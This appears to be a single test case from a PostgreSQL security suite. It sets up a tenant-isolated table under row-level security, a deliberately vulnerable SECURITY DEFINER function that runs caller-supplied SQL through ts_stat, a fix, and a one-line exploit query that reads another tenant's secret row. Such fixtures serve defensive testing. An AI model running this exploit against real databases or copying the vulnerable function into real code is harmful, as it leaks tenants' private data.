-- What: A function of the server's own runs the SQL that it is given as text.
-- Class: function_definer
-- Object: public.counted
-- Exploit: Give it a query of all rows.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
-- @superuser
create function counted(p_query text) returns table (word text) language sql security definer set search_path = public, pg_temp as
  $$ select s.word from ts_stat(p_query) s $$;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke execute on function counted(text) from public;
-- @control
select from items where tenant_id = :'A';
-- @exploit
select w from counted('select to_tsvector(''simple'', body) from public.items') w where w = 'b-secret';
